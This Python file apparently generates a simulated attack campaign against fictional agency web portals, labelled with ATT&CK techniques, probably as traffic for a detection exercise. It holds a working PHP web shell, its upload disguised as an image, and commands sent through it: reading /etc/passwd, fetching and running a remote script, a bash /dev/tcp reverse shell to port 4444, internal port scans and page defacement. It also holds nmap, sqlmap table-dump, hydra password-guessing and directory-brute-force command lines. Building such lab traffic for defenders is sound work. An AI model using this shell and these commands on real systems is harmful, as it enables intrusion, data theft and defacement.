"""Attacks on the portals: scans, searches for pages, SQL injection, a web shell and what is done through it, defacement,
guessing of log-ins, one source at every agency's door."""

import time
import urllib.parse

import names
from campaign import NAMES, Step, wordlist

WEB = "203.0.113.10"
SHELL = "<?php if(isset($_REQUEST['c'])){echo '<pre>';system($_REQUEST['c']);echo '</pre>';} ?>\n"
WORDS = (
    "admin administrator login wp-login.php wp-admin phpmyadmin pma .git/HEAD .env .svn/entries backup backup.zip "
    "db.sql dump.sql config.php config.bak web.config server-status phpinfo.php info.php test.php shell.php upload "
    "uploads files tmp old dev staging api api/v1 console manager/html actuator actuator/env solr jenkins cgi-bin "
    "robots.txt sitemap.xml .htaccess .htpasswd .DS_Store composer.json package.json vendor node_modules logs log "
    "error.log access.log admin.php index.php.bak quan-tri quan-tri/tai-len.php quan-tri/dang-nhap.php tep-tin "
    "data database sql mysql setup install install.php readme.html license.txt xmlrpc.php user users member account "
    "portal secure private secret hidden internal intranet webmail owa ecp autodiscover remote vpn citrix"
).split()


def host(name):
    return f"{name}.{names.DOMAIN}"


def scan_ports(stage, step):
    ports = step.answer["ports"]
    stage.tool(
        step.space,
        f"nmap -sS -Pn -n -T4 --max-retries 1 {ports} 203.0.113.10-14 203.0.113.5",
        step.seconds - 0.5,
        step.name,
    )


def scan_slowly(stage, step):
    stage.tool(
        step.space,
        f"nmap -sS -Pn -n --max-retries 0 --scan-delay {step.delay}ms --max-scan-delay {step.delay}ms "
        f"--top-ports 90 {step.answer['target']}",
        240,
        step.name,
    )


def nikto(stage, step):
    stage.tool(
        step.space,
        f"nikto -host {WEB} -port 80 -vhost {step.answer['target']} -nointeractive -nolookup "
        f"-maxtime {int(step.seconds - 3)}s",
        step.seconds - 1,
        step.name,
    )


def wapiti(stage, step):
    with open(f"/etc/netns/njp-{step.space}/hosts", "w") as out:
        out.write(f"127.0.0.1 localhost\n{WEB} {step.answer['target']}\n")
    stage.tool(
        step.space,
        f"HOME={stage.folder} wapiti -u http://{step.answer['target']}/tim-kiem.php?q=a --scope folder "
        f"-m sql,xss,exec,file,crlf --flush-session --max-scan-time {int(step.seconds - 3)} --no-bugreport -v 0 "
        f"-o {stage.folder}/wapiti",
        step.seconds - 0.5,
        step.name,
    )


def find_pages(stage, step):
    words = WORDS + [f"{w}.{e}" for w in NAMES for e in ("php", "bak", "zip", "sql")]
    path = stage.file(step.name + ".txt", words)
    if step.answer["tool"] == "gobuster":
        stage.tool(
            step.space,
            f"gobuster dir -q -u http://{WEB}/ -H 'Host: {step.answer['target']}' -w {path} -t 4 --delay 40ms",
            step.seconds - 0.5,
            step.name,
        )
    else:
        stage.tool(
            step.space,
            f"ffuf -s -u http://{WEB}/FUZZ -H 'Host: {step.answer['target']}' -w {path} -t 2 -p 0.03",
            step.seconds - 0.5,
            step.name,
        )


def probe_agencies(stage, step):
    hosts = stage.file(step.name + ".hosts", [host(h) for h, _ in names.AGENCIES])
    paths = stage.file(step.name + ".paths", WORDS[:9] + [".git/config", "quan-tri/dang-nhap.php"])
    stage.tool(
        step.space,
        f"ffuf -s -u http://{WEB}/PATH -H 'Host: HOST' -w {hosts}:HOST -w {paths}:PATH -t 2 -p 0.03",
        step.seconds - 0.5,
        step.name,
    )


def sqlmap(stage, step):
    agent = "--random-agent" if step.hidden else ""
    stage.tool(
        step.space,
        f"HOME={stage.folder} sqlmap -u 'http://{WEB}/tra-cuu?ma=H00001' -H 'Host: {step.answer['target']}'"
        f" --batch --flush-session {agent} --level 2 --risk 1 -T taikhoan --dump --stop 20 --threads 1",
        step.seconds - 0.5,
        step.name,
    )


def guess_form(stage, step):
    path = stage.file(step.name + ".txt", wordlist(step.rng, 260))
    user = step.rng.choice(("admin", "quantri", step.rng.choice(stage.world.citizens)[0]))
    stage.tool(
        step.space,
        f"hydra -I -t 4 -l {user} -P {path} -s 80 {WEB} http-post-form "
        f"'/dang-nhap:ten=^USER^&mat-khau=^PASS^:H=Host\\: {step.answer['target']}:F=Sai'",
        step.seconds - 0.5,
        step.name,
    )


def web(stage, step, path, more=""):
    agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
    stage.tool(
        step.space, f"curl -s -m 6 -A '{agent}' -H 'Host: {step.site}' {more} 'http://{WEB}{path}'", 8, step.name
    )


def upload_shell(stage, step):
    path = stage.file(step.shell, [SHELL])
    web(stage, step, "/quan-tri/tai-len.php")
    stage.clock.wait(stage.clock.now() + 20)
    web(stage, step, "/quan-tri/tai-len.php", f"-F 'anh=@{path};type=image/jpeg;filename={step.shell}'")


def through_shell(stage, step):
    """Commands through the shell, a tool fetched from outside, then a connection out to a listener."""
    run = lambda command: (
        web(stage, step, f"/tep-tin/{step.shell}?c=" + urllib.parse.quote(command)),
        stage.clock.wait(stage.clock.now() + step.rng.uniform(8, 30)),
    )
    for command in ("id", "uname -a", "cat /etc/passwd", "ls -la /srv/www", "ip addr", "ps aux"):
        run(command)
    run(f"curl -s http://{step.server}/tool.sh -o /tmp/.x.sh && sh /tmp/.x.sh")
    listener = stage.place.spawn(
        step.listen,
        [
            "sh",
            "-c",
            (
                "(sleep 1; for c in whoami hostname 'cat /etc/nginx/nginx.conf' "
                "'ls -la /home' 'cat /etc/hosts'; do echo $c; sleep 0.5; done; sleep 1; echo exit) | "
                "timeout 12 nc -l -n -v -p 4444"
            ),
        ],
        stdout=-3,
        stderr=-3,
    )
    time.sleep(0.3)
    run(f"bash -c 'bash -i >& /dev/tcp/{step.server}/4444 0>&1' &")
    listener.wait(15)


def inner_scan(stage, step):
    """From the taken server into the data centre, through the shell."""
    for net, ports in (("10.20.2", "22 80 3306 5432 8000 9000"), ("10.20.10", "445 3389")):
        command = (
            f'for i in 1 10 20 30 40 50 60; do for p in {ports}; do timeout 0.1 bash -c "echo > /dev/tcp/{net}.$i/$p"'
            " 2>/dev/null && echo $i:$p; done; done"
        )
        web(stage, step, f"/tep-tin/{step.shell}?c=" + urllib.parse.quote(command))


def deface(stage, step):
    text = "<html><title>HACKED</title><body bgcolor=black><h1>Hacked by Bong Dem Crew</h1></body></html>"
    web(
        stage,
        step,
        f"/tep-tin/{step.shell}?c="
        + urllib.parse.quote(
            f"cp /srv/www/soxaydung/index.html /tmp/.i; echo '{text}' > /srv/www/soxaydung/index.html"
        ),
    )
    for _ in range(2):
        stage.clock.wait(stage.clock.now() + 15)
        web(stage, step, "/")


def steps(rng, sources, outsiders):
    """`outsiders`: filled with namespace → address."""
    made = []

    def add(name, space, day, seconds, rate, act, technique, tool, target, what, chain=None, **more):
        source = outsiders.setdefault(space, None) or outsiders.update({space: sources.take()}) or outsiders[space]
        step = Step(
            name,
            day,
            seconds,
            rate,
            act,
            {
                "chain": chain,
                "source": source,
                "target": target,
                "technique": technique,
                "tool": tool,
                "what": what,
                **more.pop("answer", {}),
            },
        )
        step.space, step.rng = space, rng
        for key, value in more.items():
            setattr(step, key, value)
        made.append(step)
        return step

    hour = lambda low, high: rng.uniform(low, high) * 3600
    portal, site = host("soxaydung"), host
    begin = hour(0.5, 13)
    add(
        "scan-ports",
        "mot",
        begin,
        14,
        3,
        scan_ports,
        ["T1046", "T1595.001"],
        "nmap",
        "203.0.113.0/28",
        "ports of all published hosts scanned",
        "web-shell",
        answer={"ports": rng.choice(("--top-ports 300", "-F", "--top-ports 200"))},
    )
    add(
        "nikto",
        "mot",
        begin + hour(0.2, 0.6),
        22,
        rng.uniform(8, 16),
        nikto,
        ["T1595.002"],
        "nikto",
        portal,
        "vulnerability scan",
        "web-shell",
    )
    tool = rng.choice(("ffuf", "gobuster"))
    add(
        "find-pages",
        "mot",
        begin + hour(0.8, 1.1),
        10,
        3,
        find_pages,
        ["T1595.003"],
        tool,
        portal,
        "search for hidden pages",
        "web-shell",
    )
    shell = rng.choice(("anh-le-khoi-cong.php", "logo2.php", "banner_tet.php", "img_0412.php"))
    more = {"shell": shell, "server": None, "listen": "hai", "site": portal}
    later = begin + hour(1.3, 2)
    add(
        "upload-shell",
        "mot",
        later,
        6,
        15,
        upload_shell,
        ["T1190", "T1505.003"],
        "curl",
        portal,
        "web shell uploaded",
        "web-shell",
        **more,
    )
    through = add(
        "commands",
        "mot",
        later + 240,
        22,
        12,
        through_shell,
        ["T1505.003", "T1059.004", "T1105"],
        "curl, bash, nc",
        portal,
        "commands through the web shell, a script fetched, a shell sent out",
        "web-shell",
        **more,
    )
    outsiders.setdefault("hai", sources.take())
    through.server = outsiders["hai"]
    through.answer["callback"] = through.server
    add(
        "inner-scan",
        "mot",
        later + hour(0.2, 0.4),
        14,
        3,
        inner_scan,
        ["T1046"],
        "bash",
        "10.20.0.0/16",
        "the taken web server scans inner networks",
        "web-shell",
        answer={"also": ["10.20.1.10"]},
        **more,
    )
    add(
        "deface",
        "mot",
        later + hour(0.5, 1),
        6,
        10,
        deface,
        ["T1491.002"],
        "curl",
        portal,
        "start page replaced",
        "web-shell",
        **more,
    )
    add(
        "sqlmap",
        "ba",
        hour(1, 22),
        45,
        2,
        sqlmap,
        ["T1190"],
        "sqlmap",
        site("dichvucong"),
        "SQL injection, tables read",
        "sql",
        hidden=rng.random() < 0.5,
    )
    add(
        "guess-form",
        "bon",
        hour(1, 22),
        14,
        5,
        guess_form,
        ["T1110.001"],
        "hydra",
        site("dichvucong"),
        "passwords guessed at the log-in form",
    )
    add(
        "probe-agencies",
        "nam",
        hour(1, 22),
        12,
        4,
        probe_agencies,
        ["T1595.003"],
        "ffuf",
        "39 agency portals",
        "the same paths asked of every agency's portal",
        answer={"hosts": len(names.AGENCIES)},
    )
    add(
        "wapiti",
        "sau",
        hour(1, 22),
        25,
        3,
        wapiti,
        ["T1595.002", "T1190"],
        "wapiti",
        site(rng.choice(names.AGENCIES)[0]),
        "web scanner with injections",
    )
    add(
        "slow-scan",
        "bay",
        hour(1, 18),
        0,
        0,
        scan_slowly,
        ["T1046", "T1595.001"],
        "nmap",
        "203.0.113.14",
        "a port a minute",
        delay=rng.randrange(450, 800),
    )
    for step in made:
        if step.name in ("upload-shell", "commands", "inner-scan", "deface"):
            step.answer["also"] = ["10.20.1.10", "web-01"]
    return made
